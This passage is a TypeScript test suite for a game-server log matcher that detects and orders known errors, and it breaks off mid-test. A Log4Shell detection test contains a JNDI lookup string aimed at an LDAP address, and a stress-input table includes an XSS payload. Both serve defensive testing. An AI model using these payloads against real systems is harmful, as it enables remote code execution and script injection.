import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createMatcher } from './create-matcher.ts';
import { isRelated } from './games.ts';
import type { ErrorRule } from './types.ts';

function rule(code: string, patterns: readonly string[], after: readonly string[] = []): ErrorRule {
  const [product = '', name = ''] = code.split('/');
  const whose = product === 'general' ? null : product;
  return {
    code,
    say: name,
    url: `/help/${code}`,
    title: name,
    section: null,
    product: whose,
    patterns,
    after,
    samples: [],
  };
}

const RULES = [
  rule('minecraft/java', [
    'compiled by a more recent version of the Java Runtime (class file version {number:needed})',
  ]),
  rule('minecraft/port', ['FAILED TO BIND TO PORT']),
  rule('minecraft/plugin', ["Could not load '{path:plugin}' in folder"], ['minecraft/java']),
  rule('minecraft/deep', ['Unsupported database file schema']),
  rule('general/port', ['Address already in use']),
  rule('general/disk', ['No space left on device']),
  rule('gtav/key', ['Invalid license key specified']),
  rule('redm/key', ['Invalid license key specified']),
];
const matcher = createMatcher(RULES);
const codes = (log: string): readonly string[] => matcher.match(log).findings.map(({ code }) => code);
const MC = '[12:00:00] [Server thread/INFO]: Starting minecraft server version 1.20.1\n';

test('whose log it is may be said by the reader: the own rule stands before that of a sister, and of every program', () => {
  const ask = (whose: string | null, line: string): readonly string[] =>
    createMatcher(
      [
        ...RULES,
        rule('ark/crashed', ['Signal {number} caught']),
        rule('general/crashed', ['Signal 11 caught']),
      ],
      [],
      whose,
    )
      .match(line)
      .findings.map(({ code }) => code);
  assert.deepEqual(ask('redm', 'Invalid license key specified')[0], 'redm/key');
  assert.deepEqual(ask('gtav', 'Invalid license key specified')[0], 'gtav/key');
  assert.deepEqual(ask('ark', 'Signal 11 caught.'), ['ark/crashed']);
  // Of a long log nothing is held back because no line says whose it is.
  assert.deepEqual(ask('ark', `${'some line\n'.repeat(40)}Signal 7 caught.`), ['ark/crashed']);
});

test('product, version, lines and values are those of the log', () => {
  const reading = matcher.match(
    `${MC}[12:00:01] [main/ERROR]: x has been compiled by a more recent version of the Java Runtime (class file version 65.0), this`,
  );
  assert.equal(reading.product, 'minecraft');
  assert.equal(reading.version, '1.20.1');
  assert.equal(reading.lines, 2);
  assert.deepEqual(
    reading.findings.map(({ code, line, values }) => ({ code, line, values })),
    [{ code: 'minecraft/java', line: 2, values: { needed: '65.0' } }],
  );
});

test('causes come first, in the order of the log; what they explain and what is general comes after', () => {
  const log = `${MC}No space left on device\nCould not load 'plugins/a.jar' in folder 'x'\n**** FAILED TO BIND TO PORT!\ncompiled by a more recent version of the Java Runtime (class file version 65.0)\n`;
  assert.deepEqual(codes(log), ['minecraft/port', 'minecraft/java', 'general/disk', 'minecraft/plugin']);
  assert.equal(matcher.match(log).findings.at(-1)?.consequenceOf, 'minecraft/java');
});

test('the last "Caused by" of an exception explains the lines above it', () => {
  const log = `${MC}[12:00:01] [Server thread/ERROR]: Could not load 'plugins/a.jar' in folder 'plugins'
java.lang.RuntimeException: wrapped
\tat a.b.C.d(C.java:1)
\tat a.b.C.e(C.java:2)
Caused by: java.lang.IllegalStateException: Unsupported database file schema
\t... 3 more
`;
  const { findings } = matcher.match(log);
  assert.deepEqual(
    findings.map(({ code, consequenceOf }) => [code, consequenceOf]),
    [
      ['minecraft/deep', null],
      ['minecraft/plugin', 'minecraft/deep'],
    ],
  );
});

test('where each explains the other, the deepest of them explains', () => {
  const circle = createMatcher([
    rule('minecraft/settings', ['An I/O error occurred']),
    rule('minecraft/card', ['Backend API: {rest}']),
    rule('general/in-use', ['The process cannot access the file']),
  ]);
  const log = `${MC}[12:00:01] [main/ERROR]: a.b.WritingException: An I/O error occurred
\tat a.b.C.d(C.java:1)
Caused by: java.nio.file.FileSystemException: a.toml: The process cannot access the file
\t... 3 more
Backend API: card
`;
  assert.deepEqual(
    circle.match(log).findings.map(({ code, consequenceOf }) => [code, consequenceOf]),
    [
      ['minecraft/card', null],
      ['general/in-use', null],
      ['minecraft/settings', 'general/in-use'],
    ],
  );
});

test('one cause is told once: a repeated line, and the general form of what the game has its own rule for', () => {
  assert.deepEqual(
    codes(
      `${MC}${'[1] FAILED TO BIND TO PORT!\njava.net.BindException: Address already in use\n'.repeat(5)}`,
    ),
    ['minecraft/port'],
  );
});

test('what belongs to another game is left out; games with one program below answer for each other', () => {
  assert.deepEqual(codes(`${MC}Invalid license key specified`), []);
  assert.deepEqual(codes('FXServer starting\n[svadhesive] Invalid license key specified'), ['gtav/key']);
  assert.deepEqual(codes('RedM FXServer\nInvalid license key specified'), ['redm/key']);
  assert.ok(isRelated('fivem', 'redm') && isRelated('creeperpanel', 'rust') && !isRelated('rust', 'ark'));
});

test('lines of their own tell games apart, and what other programs write does not', () => {
  const productOf = (text: string) => createMatcher([]).match(text).product;
  assert.equal(productOf('[12:00:00 WARN]: Something failed'), 'minecraft');
  assert.equal(productOf('12:00:00 [INFO] [/192.0.2.1:50000] <-> InitialHandler has connected'), 'minecraft');
  assert.equal(productOf("12:00:00 CallExtension 'extDB3' could not be found"), 'arma3');
  assert.equal(productOf('Killed process 77 (dontstarve_dedi)'), 'dont-starve-together');
  assert.equal(productOf('12:00 - Thread: 6 -> App Version: 01_144_011'), 'space-engineers');
  assert.equal(productOf(' * App Version: Unity 2019.2.2f1'), null);
  assert.equal(productOf('12:00:00 [INFO]: Listening'), null);
});

test('a site may call a game by another name', () => {
  const own = createMatcher([rule('fivem/key', ['Invalid license key specified'])]);
  const { product, findings } = own.match(
    'Authenticated with cfx.re Nucleus: x\nInvalid license key specified',
  );
  assert.deepEqual([product, findings.length], ['fivem', 1]);
});

const LINE = 'No space left on device';
const WRAPPERS: readonly (readonly [name: string, text: string])[] = [
  ['colours', `\u001B[31;1mNo space\u001B[0m left on device`],
  ['colours that lost their escape', '[33mNo space[0m left on device[m'],
  ["the game's colours", '§cNo space§r left on device'],
  ['invisible characters', 'No\u200B space\u202E left on de\u00ADvice'],
  ['odd spaces', 'No\u00A0space \t left on device'],
  ['another case', 'NO SPACE LEFT ON DEVICE'],
  ['carriage returns', `a\r\n${LINE}\r\nb`],
  ['Docker', `mc-1  | ${LINE}`],
  ['journald', `Jan 01 12:00:00 host java[123]: ${LINE}`],
  ['JSON of Docker', `{"log":"${LINE}\\n","stream":"stderr","time":"2026-01-01T00:00:00Z"}`],
  ['JSON of a logger', `{"level":"error","error":{"message":"write: ${LINE}"}}`],
  ['the source of a web page', '&lt;p&gt;No space left&nbsp;on device&lt;/p&gt;'],
  ['a cause', `Caused by: java.io.IOException: ${LINE}`],
  ['a screen of 80 columns', `${'x'.repeat(70)} No space\nleft on device\n${'y'.repeat(79)}`],
  ['a screen that cuts words', `${'x'.repeat(66)} No space left\n on de`.concat(`vice`)],
  ['colours of settings files', `[12:00:00 INFO]: &c&lNo space left on device`],
  ['line ends that are written as two signs', `failed:\\n\\tat x\\n${LINE}\\nstopped`],
  ['signs that Markdown has escaped', `\\[12:00:00\\] \\[ERROR\\] ${LINE}`],
  ['a quote', `> ${LINE}`],
  ['a fence', `\`\`\`\n${LINE}\n\`\`\``],
  ['a list', `- ${LINE}`],
  ['an editor with numbers', `  12: ${LINE}`],
  ['containerd', `2026-01-01T00:00:00.123456Z stdout F ${LINE}`],
  ['a logger of pairs', `time="2026-01-01T00:00:00Z" level=error msg="write \\"a\\": ${LINE}"`],
  ['wide punctuation', `错误：${LINE}！`],
  ['one line for all', `[12:00:00] a ${'b '.repeat(5000)} ${LINE} ${'c '.repeat(5000)}`],
];

test('what only older starts of the game had comes last, and explains nothing of the newest', () => {
  const start = `${MC}${'[12:00:01] [Server thread/INFO]: Loading chunk\n'.repeat(40)}[12:00:02] [Server thread/INFO]: Done (2.1s)! For help, type "help"\n`;
  const java = 'has been compiled by a more recent version of the Java Runtime (class file version 65.0)\n';
  const plugin = "Could not load 'plugins/Shop.jar' in folder 'plugins'\n";
  assert.deepEqual(codes(`${java}${plugin}${start}`), ['minecraft/java', 'minecraft/plugin']);
  assert.deepEqual(codes(`${java}${start}${start}${plugin}`), ['minecraft/plugin', 'minecraft/java']);
  assert.deepEqual(codes(`${java}${start}${start}${plugin}${java}`), ['minecraft/java', 'minecraft/plugin']);
});

test('what comes again is told where the newest start has it, whatever else says that it is ready', () => {
  const lines = (count: number): string => '[12:00:01] [Server thread/INFO]: Loading chunk\n'.repeat(count);
  const done = '[12:00:02] [Server thread/INFO]: Done (2.1s)! For help, type "help"\n';
  const web = '[12:00:03] [Server thread/INFO]: [Map] Listening on port 8123\n';
  const port = '[12:00:04] [Server thread/WARN]: FAILED TO BIND TO PORT\n';
  const start = `${MC}${lines(40)}${done}`;
  const tell = (log: string): readonly (readonly [line: number, isOlder: boolean])[] =>
    matcher.match(log).findings.map(({ line, isOlder }) => [line, isOlder === true]);
  const numberOf = (log: string): number => log.split('\n').length;
  const old = `${MC}${port}${start}${start}`;
  assert.deepEqual(tell(`${old}${port}`), [[numberOf(old), false]]);
  assert.deepEqual(tell(old), [[2, true]]);
  assert.deepEqual(
    tell(`${old}${port}${lines(5)}${web}${lines(40)}`),
    [[numberOf(old), false]],
    'of another game',
  );
  const once = `${MC}${port}${start}`;
  assert.deepEqual(tell(`${once}${web}${lines(40)}${port}${lines(40)}${web}`), [[2, false]], 'one start');
  const twice = `${MC}${start}${port}${done}${lines(9)}`;
  assert.deepEqual(
    tell(`${twice}${port}${start}`),
    [[numberOf(twice), false]],
    'one start that says so twice',
  );
});

test('what stands there thousands of times, to the end, is no matter of older starts', () => {
  const start = `${'[12:00:01] [Server thread/WARN]: FAILED TO BIND TO PORT 1\n'.repeat(80)}[12:00:02] [Server thread/INFO]: Done (2.1s)! For help, type "help"\n`;
  const strict = createMatcher([{ ...rule('minecraft/port', ['FAILED TO BIND TO PORT']), times: 2 }]);
  const [told] = strict.match(`${MC}${start.repeat(100)}`).findings;
  assert.equal(told?.code, 'minecraft/port');
  assert.equal(told?.isOlder, undefined);
});

test('a whole log in which nothing goes wrong has no words to search for', () => {
  const quiet = `${MC}${'[12:00:01] [Server thread/INFO]: PlayerName joined the game\n'.repeat(30)}`;
  assert.equal(matcher.match(quiet).words, '');
  assert.notEqual(
    matcher.match(`${quiet}[12:00:02] [Server thread/ERROR]: The shop could not be opened`).words,
    '',
  );
});

test('a message is found however the log was written, copied and pasted', () => {
  for (const [name, text] of WRAPPERS) assert.deepEqual(codes(text), ['general/disk'], name);
});

test('what players say is no error', () => {
  for (const text of [
    `[12:00:00] [Server thread/INFO]: <Steve> ${LINE}`,
    `[12:00:00 INFO]: [Not Secure] <Steve> ${LINE}`,
    `2026-01-01T00:00:00 1.5 INF Chat (from 'x', entity id '1', to 'Global'): ${LINE}`,
  ])
    assert.deepEqual(codes(text), [], text);
  const attack = createMatcher([rule('minecraft/log4shell', ['${{jndi:ldap'])]);
  const said = attack.match('[12:00:00] [Server thread/INFO]: <Steve> ${jndi:ldap://203.0.113.66:1389/a}');
  assert.deepEqual(
    said.findings.map(({ code }) => code),
    ['minecraft/log4shell'],
  );
});

test('nothing known: the last exception, masked, and words to search for', () => {
  const { findings, lastException, words } = matcher.match(
    `${MC}[12:00:01] [Server thread/ERROR]: Encountered an unexpected exception\njava.lang.IllegalStateException: Failed to initialize frobnicator at 203.0.113.9\n\tat a.B.c(B.java:1)\n`,
  );
  assert.deepEqual(findings, []);
  assert.equal(
    lastException,
    'java.lang.IllegalStateException: Failed to initialize frobnicator at [address]',
  );
  assert.match(words, /frobnicator|unexpected exception/);
});

/** Texts that nobody should be able to stop the page with. */
const HOSTILE: Readonly<Record<string, (size: number) => string>> = {
  'one line': (size) => 'a'.repeat(size),
  'nothing but NUL': (size) => '\0'.repeat(size),
  'half a message again and again': (size) => 'compiled by a more recent '.repeat(size / 26),
  'a word of a pattern again and again': (size) => 'address '.repeat(size / 8),
  'short lines': (size) => 'address already in\n'.repeat(size / 19),
  'causes of causes': (size) => 'Caused by: '.repeat(size / 11),
  'half colours': (size) => '\u001B[1;1;1'.repeat(size / 7),
  'half JSON': (size) => '{"'.repeat(size / 2),
  HTML: (size) => '<img src=x onerror=alert(1)>'.repeat(size / 28),
  'text from right to left': (size) => '\u202Eesu ni ydaerla sserddA\n'.repeat(size / 24),
  'quotes and spaces': (size) => `' "`.repeat(size / 3),
};

test('the work grows with the log and no faster, whatever it holds', () => {
  for (const [name, make] of Object.entries(HOSTILE)) {
    const small = matcher.measure(make(100_000)).steps;
    const large = matcher.measure(make(400_000)).steps;
    assert.ok(large <= 4.5 * small + 50_000, `${name}: ${small} steps, then ${large}`);
    assert.ok(large <= 20 * 400_000, `${name}: ${large} steps`);
  }
});

test('millions of characters are read to the end', () => {
  for (const [name, make] of Object.entries(HOSTILE)) {
    const size = name === 'one line' ? 10_000_000 : 1_000_000;
    const { findings } = matcher.match(`${make(size)}\n${LINE}`);
    assert.deepEqual(
      findings.map(({ code }) => code),
      ['general/disk'],
      name,
    );
  }
});

test('patterns that others try in many ways cost no more', () => {
  const hard = createMatcher([rule('general/x', ['alpha{word}a{word}a{word}a{word}a{rest}a{rest}omega'])]);
  const { steps } = hard.measure(`alpha${' a'.repeat(100_000)} omeg\n`.repeat(3));
  assert.ok(steps < 30_000_000, String(steps));
});

test('a message that begins and ends somewhere is not part of another one', () => {
  const { match } = createMatcher([rule('general/killed', ['{start}Killed{end}'])]);
  const isFound = (log: string) => match(log).findings.length === 1;
  for (const log of ['Killed', '[12:00:00] [Server thread/INFO]: Killed', 'mc-1  | Killed\r\n'])
    assert.ok(isFound(log), log);
  for (const log of ['Killed 14 entities', 'OOM: Killed', '[12:00:00 INFO]: PlayerName was Killed'])
    assert.ok(!isFound(log), log);
});

test('a warning that is ordinary once is told when it comes again and again, and last', () => {
  const late = { ...rule('minecraft/late', ["Can't keep up! Is the server overloaded"]), times: 3 };
  const { match } = createMatcher([late, rule('minecraft/port', ['FAILED TO BIND TO PORT'])]);
  const told = (log: string) => match(log).findings.map(({ code }) => code);
  const warning =
    "[12:00:00] [Server thread/WARN]: Can't keep up! Is the server overloaded? Running 2074ms behind\n";
  const rest = MC.repeat(40);
  assert.deepEqual(told(warning), ['minecraft/late']);
  assert.deepEqual(told(rest + warning), []);
  assert.deepEqual(told(rest + warning.repeat(3)), ['minecraft/late']);
  // Nine lines are a whole log; several patterns on one line are one time.
  assert.deepEqual(told(MC.repeat(8) + warning), []);
  const often = {
    ...late,
    patterns: [...late.patterns, ...rule('minecraft/x', ["Can't keep up!"]).patterns],
  };
  assert.deepEqual(createMatcher([often]).match(rest + warning + warning).findings, []);
  assert.deepEqual(told(`${rest}${warning.repeat(3)}**** FAILED TO BIND TO PORT!`), [
    'minecraft/port',
    'minecraft/late',
  ]);
});

test('what an unknown error looks like is told of a short log in which nothing else is found', () => {
  const trace = { ...rule('minecraft/exception', ['at {word}({word}.java:{number})']), alone: true as const };
  const other = { ...rule('general/unknown-exception', ['NullPointerException']), alone: true as const };
  const { match } = createMatcher([other, trace, rule('minecraft/port', ['FAILED TO BIND TO PORT'])]);
  const told = (log: string) => match(log).findings.map(({ code }) => code);
  const log = 'java.lang.NullPointerException: null\n\tat com.example.Main.run(Main.java:12)\n';
  assert.deepEqual(told(MC + log), ['minecraft/exception']);
  assert.equal(match(MC + log).findings[0]?.alone, true, 'a finding says so');
  assert.deepEqual(told(log), ['general/unknown-exception']);
  assert.deepEqual(told(`${log}**** FAILED TO BIND TO PORT!`), ['minecraft/port']);
  assert.deepEqual(told(MC.repeat(120) + log), []);
});

test('of several looks of an error, that which follows from another is not told', () => {
  const alone = { alone: true as const };
  const { match } = createMatcher([
    { ...rule('minecraft/exception', ['at {word}.java:{number})'], ['minecraft/trace-plugin']), ...alone },
    { ...rule('minecraft/trace-plugin', ['at com.example.shop.{rest:class}']), ...alone },
  ]);
  const log = '\tat java.util.List.of(List.java:12)\n\tat com.example.shop.Main.run(Main.java:12)\n';
  assert.deepEqual(
    match(MC + log).findings.map(({ code }) => code),
    ['minecraft/trace-plugin'],
  );
  assert.deepEqual(
    match(`${MC}\tat java.util.List.of(List.java:12)\n`).findings.map(({ code }) => code),
    ['minecraft/exception'],
  );
});

test('a bare level is of a game only where the log is known to be of that game', () => {
  const line = { ...rule('minecraft/error-line', ['[Error] {rest}']), alone: true as const };
  const { match } = createMatcher([line]);
  assert.equal(match('[Error] no').findings.length, 0);
  assert.equal(match(`${MC}[Error] no`).findings.length, 1);
});

test('what follows from a cause gives way to it on the same line, whatever says more', () => {
  const { match } = createMatcher([
    rule('general/refused', ['Unable to establish a connection to the database'], ['general/unknown']),
    rule('general/unknown', ['ER_BAD_DB_ERROR']),
  ]);
  const { findings } = match('Unable to establish a connection to the database (ER_BAD_DB_ERROR)!');
  assert.deepEqual(
    findings.map(({ code }) => code),
    ['general/unknown'],
  );
});

test('the arrow of a proxy is no name of a player', () => {
  const { match } = createMatcher([rule('minecraft/slow', ['InitialHandler - read timed out'])]);
  assert.equal(
    match('14:08:52 [WARNING] [/203.0.113.25:52352] <-> InitialHandler - read timed out').findings.length,
    1,
  );
  assert.equal(
    match('[12:00:00] [Server thread/INFO]: <PlayerName> InitialHandler - read timed out').findings.length,
    0,
  );
  for (const line of [
    '[12:00:00 ERROR]: [connected player] <name> (/203.0.113.25:51234): InitialHandler - read timed out',
    '[12:00:00 INFO]: <name> has disconnected: InitialHandler - read timed out',
  ])
    assert.equal(match(line).findings.length, 1, line);
});

test('a message of its own is one with what editors and supervisors put around it, too', () => {
  const own = createMatcher([rule('general/killed', ['{start}Killed{end}'])]);
  for (const line of [
    'Killed',
    '- Killed',
    '`Killed`',
    '**Killed**',
    '12: Killed',
    '2026-01-01T00:00:00Z stdout F Killed',
    'Jan 01 12:00:00 supervisord: valheim-server Killed',
  ])
    assert.equal(own.match(line).findings.length, 1, line);
  assert.equal(own.match('Killed Steve').findings.length, 0);
});

test('a general cause that the finding beside it follows from comes first', () => {
  const own = createMatcher([
    rule('minecraft/tick', ['Exception ticking world'], ['general/heap']),
    rule('general/heap', ['OutOfMemoryError: Java heap space']),
  ]);
  const { findings } = own.match(
    `${MC}Description: Exception ticking world\n\njava.lang.OutOfMemoryError: Java heap space`,
  );
  assert.deepEqual(
    findings.map(({ code, consequenceOf }) => [code, consequenceOf]),
    [
      ['general/heap', null],
      ['minecraft/tick', 'general/heap'],
    ],
  );
});

test('where nobody knows which game it is, what a game says counts only if it says more', () => {
  const own = createMatcher([
    rule('valheim/mod', ['MissingMethodException: {rest}']),
    rule('general/mismatch', ['MissingMethodException: {rest}']),
    rule('gtav/key', ['Missing licence key: MissingMethodException in {rest}']),
  ]);
  const codesOf = (log: string) => own.match(log).findings.map(({ code }) => code);
  assert.deepEqual(codesOf('MissingMethodException: a'), ['general/mismatch']);
  assert.deepEqual(codesOf('Valheim version: 1\nMissingMethodException: a'), ['valheim/mod']);
});

test('what did no harm is taken back by the line that says so, and told again if it comes again', () => {
  const mod = {
    ...rule('minecraft/mod', ['Attempted to load class {rest} for invalid dist']),
    unless: ['Done ({rest})! For help', 'optional part'],
  };
  const { match } = createMatcher([mod]);
  const fault = 'Attempted to load class net/minecraft/client/A for invalid dist SERVER';
  const done = 'Done (9.284s)! For help, type "help"';
  const found = (...lines: readonly string[]) => match([MC.trim(), ...lines].join('\n')).findings.length;
  assert.equal(found(fault), 1);
  assert.equal(found(`${fault} (optional part)`), 0, 'the same line');
  assert.equal(found(fault, done), 0, 'a later line');
  assert.equal(found(done, fault), 1, 'an earlier line');
  assert.equal(found(fault, done, fault), 1, 'after it');
});

test('a line that only looks like the error is passed over, and no other', () => {
  const library = {
    ...rule('general/library', ['{word:library}: cannot open shared object file']),
    except: ['libflite', 'Ignore above {word}'],
  };
  const { match } = createMatcher([library]);
  const found = (...lines: readonly string[]) => match(lines.join('\n')).findings.map(({ line }) => line);
  const harmless = 'Error: libflite.so.1: cannot open shared object file';
  const fault = 'Error: libsteam_api.so: cannot open shared object file';
  assert.deepEqual(found(harmless), []);
  assert.deepEqual(found(fault, harmless), [1], 'what was found before stays');
  assert.deepEqual(found(harmless, fault), [2], 'the first of the true ones is told');
  assert.deepEqual(found(`${fault} Ignore above cudart`), []);
  const screen = `${'x'.repeat(70)} ${fault}`.length;
  const wrapped = [
    `${'x'.repeat(70)} ${fault}`,
    'Ignore above cudart',
    'y'.repeat(screen),
    'z'.repeat(screen),
  ];
  assert.deepEqual(found(...wrapped), [], 'the words that except it stand on the next row of the screen');
  assert.deepEqual(found(fault, ...wrapped), [1]);
  const below = [
    'WARN Could not look at a class: libflite',
    `java.lang.Error: ${fault}`,
    '    at a.B.c(B.java:1)',
  ];
  assert.deepEqual(found(...below), [], 'below the line that excepts it');
  const many = Array.from({ length: 4100 }, () => harmless);
  assert.deepEqual(found(...many, fault), [4101], 'they use up no tries');
});

test('what ends the program comes before what it lived with, whoever says it', () => {
  const { match } = createMatcher([
    rule('minecraft/dependency', ['Unknown/missing dependency plugins']),
    { ...rule('general/disk', ['No space left on device']), ends: true },
  ]);
  const log = `${MC}Unknown/missing dependency plugins: [Vault]\njava.io.IOException: No space left on device`;
  assert.deepEqual(
    match(log).findings.map(({ code }) => code),
    ['general/disk', 'minecraft/dependency'],
  );
});

test('a game of the same family is told after the one whose log it is', () => {
  const { match } = createMatcher([
    rule('ark/mods', ['mod list could not be read']),
    rule('arksa/port', ['could not open the port']),
  ]);
  const log = 'ARK: Survival Ascended\nmod list could not be read\ncould not open the port';
  assert.deepEqual(
    match(log).findings.map(({ code }) => code),
    ['arksa/port', 'ark/mods'],
  );
});

test('what one person left with is old news where the log goes on', () => {
  const { match } = createMatcher([
    rule('minecraft/flying', ['Flying is not enabled on this server']),
    rule('minecraft/port', ['FAILED TO BIND TO PORT']),
  ]);
  const left = '[12:00:01] [Server thread/INFO]: Alex lost connection: Flying is not enabled on this server';
  const lines = (count: number) => '[12:00:02] [Server thread/INFO]: Saved the game\n'.repeat(count);
  const found = (log: string) => match(`${MC}${log}`).findings.map(({ code }) => code);
  assert.deepEqual(found(`${left}\n${lines(30)}`), ['minecraft/flying']);
  assert.deepEqual(found(`${left}\n${lines(31)}`), []);
  assert.deepEqual(found(`${left}\n${lines(31)}${left}`), ['minecraft/flying'], 'somebody left again');
  assert.deepEqual(found(`FAILED TO BIND TO PORT\n${lines(99)}`), ['minecraft/port'], 'no person');
});

test('what nobody knows is no trouble of a game that could be played', () => {
  const look = { ...rule('minecraft/exception', ['IllegalStateException: {rest}']), alone: true as const };
  const { match } = createMatcher([look]);
  const found = (...lines: readonly string[]) => match([MC.trim(), ...lines].join('\n')).findings.length;
  const done = '[12:00:09] [Server thread/INFO]: Done (9.284s)! For help, type "help"';
  const fault = 'java.lang.IllegalStateException: no such thing';
  assert.equal(found(fault), 1);
  assert.equal(found(fault, done), 0);
  assert.equal(found(done, fault), 0);
  assert.equal(found(fault, 'Server started.'), 1, 'what another game says');
  const came = '[12:09:00] [Server thread/INFO]: Alex joined the game';
  assert.equal(found(fault, came), 1, 'lines that somebody picked out');
  assert.equal(found(fault, done.slice(0, 33), done.slice(0, 33), came), 0, 'others play');
});

test("in a whole log that is nobody's no game is guessed", () => {
  const { match } = createMatcher([
    rule('valheim/mod', ['targets a wrong version of BepInEx']),
    { ...rule('rust/look', ['Compilation errors everywhere']), alone: true as const },
    { ...rule('gtav/look', ['Could not find file']), alone: true as const },
    rule('general/disk', ['No space left on device']),
  ]);
  const found = (line: string, more: number, other = 'all mods are well') =>
    match(`${line}\n${`${other}\n`.repeat(more)}`).findings.map(({ code }) => code);
  assert.deepEqual(found('it targets a wrong version of BepInEx', 29), ['valheim/mod']);
  assert.deepEqual(found('it targets a wrong version of BepInEx', 29, 'all is well'), [], 'nobody plays it');
  const sentence = createMatcher([rule('garrys-mod/panic', ['Lua Panic! Something went horribly wrong'])]);
  const panic = sentence.match(`Lua Panic! Something went horribly wrong\n${'all is well\n'.repeat(9)}`);
  assert.equal(panic.findings.length, 1, 'a sentence that no other program says');
  assert.deepEqual(found('it targets a wrong version of BepInEx', 30), []);
  assert.deepEqual(found('Compilation errors everywhere', 7), ['rust/look']);
  assert.deepEqual(found('Compilation errors everywhere', 8), []);
  assert.deepEqual(found('Could not find file', 0), [], 'words that all have');
  assert.deepEqual(found('No space left on device', 99), ['general/disk']);
});

test('what programs of all kinds say is told of a game, a bot or a host, or of a few lines', () => {
  const { match } = createMatcher([{ ...rule('general/port', ['Address already in use']), common: true }]);
  const found = (...others: readonly string[]) =>
    match(['bind: Address already in use', ...others].join('\n')).findings.length;
  assert.equal(found('a', 'b', 'c'), 1, 'lines that somebody picked out');
  assert.equal(found('a', 'b', 'c', 'd'), 0);
  assert.equal(found('a', 'b', 'Loading the world', 'd'), 1);
  assert.equal(found('a', 'b', 'container@pterodactyl~ ./start.sh', 'd'), 1);
});

test('what stands behind the time belongs to the message, whatever letters it has', () => {
  const patterns = ['32-bit Java', '401 Unauthorized', '找不到或无法加载主类 @{rest:file}'];
  const { findAll } = createMatcher([rule('general/a', patterns)]);
  for (const [quiet, told] of [
    ['12:00:01 64-bit Java', '12:00:02 32-bit Java'],
    ['[12:00:01] Unauthorized', '[12:00:02] 401 Unauthorized'],
    ['12:00:01 使用 @args.txt', '12:00:02 找不到或无法加载主类 @args.txt'],
  ] as const)
    assert.deepEqual(
      findAll(`${quiet}\n${quiet}\n${told}`).map(({ line }) => line),
      [3],
      told,
    );
});

test('of a few lines that somebody copied, one in ten is often, where it comes twice', () => {
  const { match } = createMatcher([{ ...rule('general/lag', ["Can't keep up!"]), times: 8 }]);
  const lines = (slow: number, all: number) =>
    Array.from({ length: all }, (_, at) => (at < slow ? "Can't keep up!" : `Line ${at}`)).join('\n');
  const found = (slow: number, all: number) => match(lines(slow, all)).findings.length;
  assert.deepEqual(
    [found(1, 14), found(2, 14), found(2, 40), found(4, 40), found(7, 90), found(8, 90)],
    [0, 1, 0, 1, 0, 1],
  );
});

test('few lines with the start of the game are a whole log: a warning must come as often as in any', () => {
  const { match } = createMatcher([{ ...rule('minecraft/lag', ["Can't keep up!"]), times: 4 }]);
  const found = (...lines: readonly string[]) => match([MC.trim(), ...lines].join('\n')).findings.length;
  assert.equal(found("Can't keep up! Is the server overloaded?"), 1);
  const late = "Can't keep up! Is the server overloaded?";
  assert.equal(found('Done (9.284s)! For help, type "help"', late), 0);
  assert.equal(found('Done (9.284s)! For help, type "help"', late, late), 0);
});

test('a warning that is ordinary must be one of twenty lines since the game could be played', () => {
  const { match } = createMatcher([{ ...rule('minecraft/lag', ["Can't keep up!"]), times: 4 }]);
  const late = "Can't keep up! Is the server overloaded?\n";
  const start = `${MC}[12:00:05] [Server thread/INFO]: Done (9.284s)! For help, type "help"\n`;
  const find = (quiet: number) =>
    match(start + `${late}${'<Ann> hello\n'.repeat(quiet)}`.repeat(4).trimEnd()).findings.length;
  assert.equal(find(19), 1);
  assert.equal(find(20), 0);
});

test('lines that only those read who write the program do not hide what comes often', () => {
  const late =
    "[12:01:00] [Server thread/WARN]: Can't keep up! Is the server overloaded? Running 5000ms behind\n";
  const lag = { ...rule('minecraft/lag', ["Can't keep up!"]), times: 4 };
  const ready = `${MC}[12:00:02] [Server thread/INFO]: Done (2.1s)! For help, type "help"\n`;
  const found = (between: string): number =>
    createMatcher([lag]).match(ready + late.repeat(8) + between).findings.length;
  const detail = '[12:02:00] [Server thread/DEBUG]: Packet handled\n\tby the second handler\n';
  assert.deepEqual(
    [found(detail.repeat(200)), found('[12:02:00] [Server thread/INFO]: Saved\n'.repeat(200))],
    [1, 0],
  );
});

test('a warning that is ordinary is not told beside what ended the program', () => {
  const { match } = createMatcher([
    { ...rule('minecraft/lag', ["Can't keep up!"]), times: 4 },
    { ...rule('general/heap', ['OutOfMemoryError: Java heap space']), ends: true },
    rule('minecraft/plugin', ['Could not load plugin']),
  ]);
  const log = `${MC}Can't keep up!\nCould not load plugin\njava.lang.OutOfMemoryError: Java heap space`;
  assert.deepEqual(
    match(log).findings.map(({ code }) => code),
    ['general/heap', 'minecraft/plugin'],
  );
});

test('what compares two sides tells of a difference only', () => {
  const { match } = createMatcher([
    rule('valheim/version', ['Network version check, their:{word:theirs}, mine:{word:ours}']),
  ]);
  const find = (log: string) => match(log).findings.map(({ line }) => line);
  const alike = 'Network version check, their:36, mine:36\n';
  assert.deepEqual(find(alike), []);
  assert.deepEqual(find(`${alike.repeat(3)}Network version check, their:35, mine:36`), [4]);
});

test('what one person met is not told of a log in which others came in and which goes on', () => {
  const met = matcherOf('minecraft/mods', ['require Forge to be installed']);
  const start = `${MC}${'[12:00:00] [Server thread/INFO]: Saved\n'.repeat(20)}`;
  const came = '[12:00:01] [Server thread/INFO]: Alex joined the game\n';
  const sent = '[12:00:02] [Server thread/INFO]: Disconnecting Kim: mods require Forge to be installed\n';
  const on = '[12:00:03] [Server thread/INFO]: Saved\n'.repeat(5);
  assert.equal(met(start + came + sent + on), 0);
  assert.equal(met(start + sent + on), 1);
  assert.equal(met(start + came + sent), 1);
  assert.equal(met(start + came + sent.repeat(3) + on), 1);
  assert.equal(met(came + sent + on), 1);
});

test('what stands below a line of somebody who is no player is left out, and what others came in after', () => {
  const frame = matcherOf('minecraft/frame', ['Bad packet length']);
  const knock =
    '[12:00:01 ERROR]: [initial connection] /192.0.2.6:4102: exception encountered in x.Handler\n';
  assert.equal(frame(`${MC}${knock}io.netty.CorruptedFrameException: Bad packet length\n`), 0);
  assert.equal(frame(`${MC}io.netty.CorruptedFrameException: Bad packet length\n`), 1);
  const met = matcherOf('minecraft/old', ['Outdated client!']);
  const sent = '[12:00:02] [Server thread/INFO]: Disconnecting Kim: Outdated client!\n';
  const log = `${MC.repeat(20)}${sent.repeat(5)}`;
  assert.equal(met(log), 1);
  assert.equal(met(`${log}[12:00:03] [Server thread/INFO]: Alex joined the game\n`), 0);
});

test('an exception below a line of one person is what that person met', () => {
